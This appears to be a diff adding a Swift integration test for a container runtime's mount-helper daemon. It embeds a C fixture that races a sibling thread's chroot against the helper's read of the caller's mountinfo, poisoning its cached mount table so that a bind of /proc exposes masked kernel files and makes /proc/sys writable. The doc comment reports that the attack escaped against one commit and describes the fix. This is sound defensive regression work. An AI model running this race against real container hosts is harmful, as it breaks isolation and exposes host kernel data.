@@ -1,0 +1,231 @@
+import ECICore
+import ECITestSupport
+import Foundation
+import Testing
+
+extension Integration.Ecid {
+    /// An attack round on 95990ad against ecid's mount helper as a whole (the helper's view of
+    /// its caller: root, mount table, namespaces; the pool; the wire), in locked (`--privileged`
+    /// shape, eci-init) and unlocked (`runc exec --cap CAP_SYS_ADMIN` into a container started
+    /// without it: ecid's traps alone) containers. Each test states what must hold next to the
+    /// legitimate neighbour; the outcome against 95990ad is in its doc comment.
+    @Suite struct AttackRound10 {
+        typealias A = EciInitAttacks
+
+        /// The round's C fixture (static, in the container's /bin/r10): `neighbour` (a mount
+        /// namespace of its own, no race), `poison` (the same with a second thread that chroots
+        /// while the first one's call is with ecid). Every field is NAME=VALUE.
+        static let source = #"""
+// Attack round 10 fixture (embedded in AttackRound10Tests.swift): the helper's view of the caller.
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static int err(int rc) { return rc < 0 ? errno : 0; }
+
+static const char *kind(const char *path) {
+    struct stat st;
+    if (lstat(path, &st) < 0) return "absent";
+    if (S_ISCHR(st.st_mode)) return "masked";
+    if (S_ISREG(st.st_mode)) return "REAL";
+    if (S_ISDIR(st.st_mode)) return "dir";
+    return "other";
+}
+
+// Rows of this process's mountinfo at `point` of file system type `type`.
+static int rows(const char *point, const char *type) {
+    FILE *f = fopen("/proc/self/mountinfo", "r");
+    if (!f) return -errno;
+    char *line = NULL, mp[4096], fs[256];
+    size_t cap = 0;
+    int n = 0;
+    while (getline(&line, &cap, f) > 0) {
+        char *dash = strstr(line, " - ");
+        if (!dash || sscanf(line, "%*s %*s %*s %*s %4095s", mp) != 1 || sscanf(dash + 3, "%255s", fs) != 1) continue;
+        if (!strcmp(mp, point) && !strcmp(fs, type)) n++;
+    }
+    free(line);
+    fclose(f);
+    return n;
+}
+
+// A second thread of the caller (CLONE_FS: one root for both) chroots to an empty directory
+// while the first thread's call is with ecid, and returns to "/" once it is answered.
+static volatile int calling, called;
+static int rootfd, delay_us;
+static void *chrooter(void *arg) {
+    (void)arg;
+    while (!calling) {}
+    usleep(delay_us);
+    long rc = chroot("/tmp/r10x") < 0 ? errno : 0;
+    while (!called) usleep(100);
+    if (fchdir(rootfd) < 0 || chroot(".") < 0 || chdir("/") < 0) rc = 1000 + errno;
+    return (void *)rc;
+}
+
+// What a namespace's helper lets through: a bind of /proc without its submounts (ecid refuses
+// it: EPERM; a locked namespace's kernel: EINVAL) and a stack of fresh procfs mounts on /proc.
+static void probe(const char *tag) {
+    int bind = err(mount("/proc", "/tmp/r10m", NULL, MS_BIND, NULL));
+    printf("%s-bind=%d %s-keys=%s %s-kcore=%s %s-timer_list=%s\n", tag, bind, tag, bind ? "-" : kind("/tmp/r10m/keys"), tag,
+           bind ? "-" : kind("/tmp/r10m/kcore"), tag, bind ? "-" : kind("/tmp/r10m/timer_list"));
+    if (bind == 0) {
+        int w = open("/tmp/r10m/sys/kernel/hostname", O_WRONLY);
+        printf("%s-sys-writable-open=%d\n", tag, w < 0 ? errno : 0);
+        if (w >= 0) close(w);
+        umount2("/tmp/r10m", MNT_DETACH);
+    }
+    int made = 0;
+    for (int i = 0; i < 6; i++) made += mount("proc", "/proc", "proc", 0, NULL) == 0;
+    printf("%s-stacked=%d %s-proc-rows=%d %s-proc-keys=%s\n", tag, made, tag, rows("/proc", "proc"), tag, kind("/proc/keys"));
+}
+
+// One try in a mount namespace of its own (a helper of its own, nothing kept yet): 0 when the
+// helper let the maskless bind through.
+static int poison_try(int i, int delay) {
+    pid_t pid = fork();
+    if (pid == 0) {
+        if (unshare(CLONE_NEWNS) < 0) {
+            printf("try-%d-unshare=%d\n", i, errno);
+            _exit(3);
+        }
+        rootfd = open("/", O_PATH | O_DIRECTORY);
+        delay_us = delay;
+        pthread_t t;
+        pthread_create(&t, NULL, chrooter, NULL);
+        calling = 1;
+        int first = err(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL));
+        called = 1;
+        void *chrooted = NULL;
+        pthread_join(t, &chrooted);
+        int bind = err(mount("/proc", "/tmp/r10m", NULL, MS_BIND, NULL));
+        printf("try-%d delay=%d first=%d chroot=%ld bind=%d\n", i, delay, first, (long)chrooted, bind);
+        if (bind == 0) umount2("/tmp/r10m", MNT_DETACH);
+        if (bind == 1) _exit(1);
+        probe("poisoned");
+        _exit(0);
+    }
+    int status = 0;
+    waitpid(pid, &status, 0);
+    return WIFEXITED(status) ? WEXITSTATUS(status) : 2;
+}
+
+int main(int argc, char **argv) {
+    setvbuf(stdout, NULL, _IONBF, 0);
+    if (argc < 2) return 2;
+    mkdir("/tmp", 01777);
+    mkdir("/tmp/r10x", 0755);
+    mkdir("/tmp/r10m", 0755);
+    mkdir("/tmp/r10n", 0755);
+    if (!strcmp(argv[1], "neighbour")) {
+        // A namespace of its own, no race: the maskless bind refused, an rbind works masked.
+        pid_t pid = fork();
+        if (pid == 0) {
+            if (unshare(CLONE_NEWNS) < 0) _exit(3);
+            printf("neighbour-rprivate=%d\n", err(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL)));
+            printf("neighbour-bind=%d\n", err(mount("/proc", "/tmp/r10m", NULL, MS_BIND, NULL)));
+            int rbind = err(mount("/proc", "/tmp/r10n", NULL, MS_BIND | MS_REC, NULL));
+            printf("neighbour-rbind=%d neighbour-rbind-keys=%s\n", rbind, rbind ? "-" : kind("/tmp/r10n/keys"));
+            int made = 0;
+            for (int i = 0; i < 6; i++) made += mount("proc", "/proc", "proc", 0, NULL) == 0;
+            printf("neighbour-stacked=%d neighbour-proc-rows=%d neighbour-proc-keys=%s\n", made, rows("/proc", "proc"), kind("/proc/keys"));
+            _exit(0);
+        }
+        waitpid(pid, NULL, 0);
+        return 0;
+    }
+    if (!strcmp(argv[1], "poison")) {
+        static const int delays[] = {3000, 1500, 6000, 10000, 2000, 4000, 800, 15000};
+        int won = -1;
+        for (int i = 0; i < 8 && won < 0; i++)
+            if (poison_try(i, delays[i]) == 0) won = i;
+        printf("poison-won=%d\n", won);
+        return 0;
+    }
+    return 2;
+}
+"""#
+
+        static func compile(into bundle: String) throws {
+            try GrantAttacks.compile(source, into: bundle, at: "/bin/r10")
+        }
+
+        static func results(_ text: String) -> [String: String] {
+            var out: [String: String] = [:]
+            for line in text.split(separator: "\n") {
+                for field in line.split(separator: " ") {
+                    guard let equals = field.firstIndex(of: "=") else { continue }
+                    out[String(field[..<equals])] = String(field[field.index(after: equals)...])
+                }
+            }
+            return out
+        }
+
+        /// A privileged container (locked, or unlocked: no CAP_SYS_ADMIN at start) running
+        /// `sleep MARKER`, with the fixture compiled in; the body gets its ID.
+        static func withContainer(_ sandbox: RuntimeSandbox, id: String, marker: Int, locked: Bool, _ body: () throws -> Void) throws {
+            let bundle = try sandbox.makeBundle(id, script: "exec sleep \(marker)") {
+                if locked { Integration.RuntimeLocks.privileged(&$0) } else { Integration.RuntimeLocks.privilegedWithoutSysAdmin(&$0) }
+            }
+            try Self.compile(into: bundle)
+            let started = try sandbox.runtimeDetached(["run", "-d", "--bundle", bundle, id])
+            defer { A.delete(sandbox, id) }
+            #expect(started.status == 0, "\(started.stderr)")
+            let pid = try #require(try A.pid(of: "sleep \(marker)"))
+            #expect(A.isLocked(pid) == locked)
+            try body()
+        }
+
+        /// The helper reads the caller's mount table through `/proc/TID/mountinfo`, which the
+        /// kernel renders from the task's root *when the file is opened*, while it resolves the
+        /// caller's names from the root ecid opened (`/proc/TID/root`) when the notification
+        /// came. Threads share their root (CLONE_FS): a second thread that chroots to an empty
+        /// directory between the two makes the helper judge the call against the mounts seen
+        /// from there, i.e. none. The helper of a namespace keeps the table it opened first for
+        /// the namespace's root (`MountTableCache`), so one won race poisons every later call
+        /// of that namespace: nothing is protected any more. The fixture (`poison`) tries in
+        /// fresh mount namespaces (a helper of its own each) and then binds /proc without its
+        /// submounts and stacks six fresh procfs mounts on /proc.
+        /// Must hold: the maskless bind refused (ecid's EPERM; the kernel's EINVAL in a locked
+        /// namespace would already show the policy was skipped), no real /proc/keys or kcore,
+        /// at most four procfs on /proc. The neighbour (`neighbour`, same calls, no race): the
+        /// maskless bind refused, an rbind of /proc works masked, the stack stops at four.
+        /// Against 95990ad: ESCAPED. Unlocked (`runc exec --cap CAP_SYS_ADMIN`): the bind is
+        /// performed and shows the real /proc/keys, /proc/kcore and /proc/timer_list, and
+        /// /proc/sys is writable through it (masks and read-only paths revealed, class (a)).
+        /// Locked: the kernel refuses the bind (EINVAL: locked submounts), but ecid's rules are
+        /// gone for that namespace (seven procfs on /proc, past the bound of four). Fix: the
+        /// helper reads its own mountinfo (`/proc/self/mountinfo` of the VM's /proc) after it
+        /// has taken the caller's root: rendered from exactly the root and namespace its own
+        /// lookups use, whatever the caller's threads do.
+        @Test(arguments: [false, true])
+        func siblingChrootDoesNotBlindTheHelper(locked: Bool) throws {
+            let sandbox = try RuntimeSandbox()
+            defer { sandbox.cleanup() }
+            let ecid = try Daemon(sandbox: sandbox)
+            defer { ecid.kill() }
+            let kind = locked ? "locked" : "unlocked"
+            try Self.withContainer(sandbox, id: "r10-chroot-\(kind)", marker: locked ? 5101 : 5102, locked: locked) {
+                let exec = try sandbox.runtime(["exec", "--cap", "CAP_SYS_ADMIN", "r10-chroot-\(kind)", "sh", "-c", "/bin/r10 neighbour; /bin/r10 poison"])
+                print("AttackRound10.siblingChrootDoesNotBlindTheHelper (\(kind)): \(exec.stdout) \(exec.stderr)")
+                let got = Self.results(exec.stdout)
+                #expect(got["neighbour-bind"] == "1", "\(kind): the neighbour's maskless bind: \(exec.stdout)")
+                #expect(got["neighbour-rbind"] == "0" && got["neighbour-rbind-keys"] == "masked", "\(kind): the neighbour's rbind: \(exec.stdout)")
+                #expect(got["neighbour-proc-rows"].flatMap { Int($0) }.map { $0 <= 4 } == true && got["neighbour-proc-keys"] == "masked", "\(kind): \(exec.stdout)")
+                #expect(got["poison-won"] != nil, "the probe did not run: \(exec.stdout) \(exec.stderr)")
+                #expect(got["poison-won"] == "-1", "\(kind): a sibling thread's chroot made the helper judge against an empty table: \(exec.stdout) \(ecid.log().split(separator: "\n").filter { $0.contains("r10m") || $0.contains("/proc") }.suffix(6))")
+                #expect(got["poisoned-keys"] != "REAL" && got["poisoned-kcore"] != "REAL", "\(kind): masks revealed: \(exec.stdout)")
+                #expect(got["poisoned-proc-rows"].flatMap { Int($0) }.map { $0 <= 4 } != false, "\(kind): past the bound: \(exec.stdout)")
+            }
+        }
+    }
+}
